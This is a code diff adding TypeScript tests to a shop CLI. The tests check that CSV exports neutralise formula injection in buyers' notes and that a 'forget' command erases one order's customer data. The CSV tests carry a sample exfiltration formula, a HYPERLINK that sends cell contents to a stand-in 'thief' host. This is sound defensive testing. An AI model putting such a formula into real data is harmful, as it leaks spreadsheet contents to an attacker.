@@ -2,10 +2,14 @@
 import assert from 'node:assert/strict';
 import { PassThrough } from 'node:stream';
 import { text } from 'node:stream/consumers';
-import { test } from 'node:test';
+import { test, describe, type TestContext } from 'node:test';
 import { CompanionClient, type Fields } from '../../../server/cli/client.ts';
 import { orders } from '../../../server/cli/commands/orders.ts';
 import { textOutput } from '../../../server/cli/output.ts';
+import { csv } from '../../../server/cli/csv.ts';
+import { forget } from '../../../server/cli/commands/forget.ts';
+import { merchantKey } from '../routes/mounted.ts';
+import { openSellingShop, type SellingShop } from '../selling/selling-shop.ts';
 
 const order = (id: string, created_at: string): Fields => ({
   id,
@@ -86,4 +90,95 @@ test('orders --q lists all orders that the companion finds, also those without a
     client.queries.map(({ q }) => q),
     ['joão & co', 'joão & co'],
   );
+});
+
+/** Tests that a buyer's text cannot become a formula in the merchant's spreadsheet. */
+describe('csv', () => {
+  /** The fields of a file as a spreadsheet reads it: a quote only counts at the start of a field. */
+  function fieldsOf(text: string, separator: string): string[] {
+    const fields: string[] = [];
+    for (let rest = text; rest !== '';) {
+      const quoted = /^"((?:[^"]|"")*)"?/.exec(rest);
+      const start = quoted?.[0] ?? '';
+      const [, more = '', end = ''] =
+        new RegExp(`^([^${separator}\r\n]*)([${separator}\r\n]*)`).exec(rest.slice(start.length)) ?? [];
+      fields.push((quoted?.[1] ?? '').replaceAll('""', '"') + more);
+      rest = rest.slice(start.length + more.length + end.length);
+    }
+    return fields;
+  }
+
+  const formula = '=HYPERLINK("https://thief.example/?"&A1)';
+
+  for (const [name, separator] of [
+    ['commas', ','],
+    ['semicolons, as Excel in Brazil', ';'],
+    ['tabs', '\t'],
+  ] as const) {
+    test(`no text of a buyer is a formula, if the spreadsheet separates fields by ${name}`, () => {
+      for (const sign of ['=', '+', '-', '@', '＝']) {
+        for (const start of ['', 'a;', 'a;"', 'a; ', 'a,', 'a\t', 'a\n', 'a\r\n', 'a"\n"', '" ', ';;']) {
+          const note = start + sign + formula.slice(1);
+          const text = csv(['reference', 'note'], [{ reference: 'mug-1', note }]);
+          const found = fieldsOf(text, separator).filter((field) => /^[\s"]*[=+\-@＝]/.test(field));
+          assert.deepEqual(found, [], JSON.stringify(text));
+        }
+      }
+    });
+  }
+
+  test('other text stays as it is', () => {
+    const rows = [
+      { note: 'Rua das Flores, 10 - fundos; +1 hora: "agora"' },
+      { note: 'a-b; c=d' },
+      { note: 12 },
+    ];
+    assert.equal(
+      csv(['note'], rows),
+      `note\r\n"Rua das Flores, 10 - fundos; '+1 hora: ""agora"""\r\na-b; c=d\r\n12\r\n`,
+    );
+  });
+});
+
+/** Tests that `forget` erases the buyer's data of the named order only. */
+describe('forget', () => {
+  const customer = { name: 'Ana Souza', email: 'ana@shop.example' };
+
+  async function shopWithOrder(t: TestContext): Promise<{ shop: SellingShop; id: string }> {
+    const shop = await openSellingShop(t, { baseUrl: 'http://127.0.0.1:9/api' });
+    const order = { reference: 'order-1', amounts: { BRL: '10.00' }, customer };
+    const { body } = await shop.merchant('POST', '/v1/checkouts', order);
+    const id = String(body['id']);
+    await shop.merchant('POST', `/v1/checkouts/${id}/cancel`);
+    return { shop, id };
+  }
+
+  const run = ({ url }: SellingShop, reference: string): Promise<number> =>
+    forget.run({
+      client: new CompanionClient({ url, merchantKey }),
+      settings: { url, merchantKey },
+      values: {},
+      positionals: [reference],
+      isJson: false,
+      terminal: {
+        input: new PassThrough(),
+        output: textOutput(new PassThrough()),
+        error: textOutput(new PassThrough()),
+      },
+    });
+
+  const customerOf = async ({ shop, id }: { shop: SellingShop; id: string }): Promise<unknown> =>
+    (await shop.merchant('GET', `/v1/checkouts/${id}`)).body['customer'];
+
+  test('erases the data of the order with this reference', async (t) => {
+    const made = await shopWithOrder(t);
+    assert.equal(await run(made.shop, 'order-1'), 0);
+    assert.deepEqual(await customerOf(made), {});
+  });
+
+  test('an empty reference, as of an unset variable, erases nobody', async (t) => {
+    const made = await shopWithOrder(t);
+    await assert.rejects(run(made.shop, ''), { message: 'No order with this reference' });
+    assert.deepEqual(await customerOf(made), customer);
+  });
 });
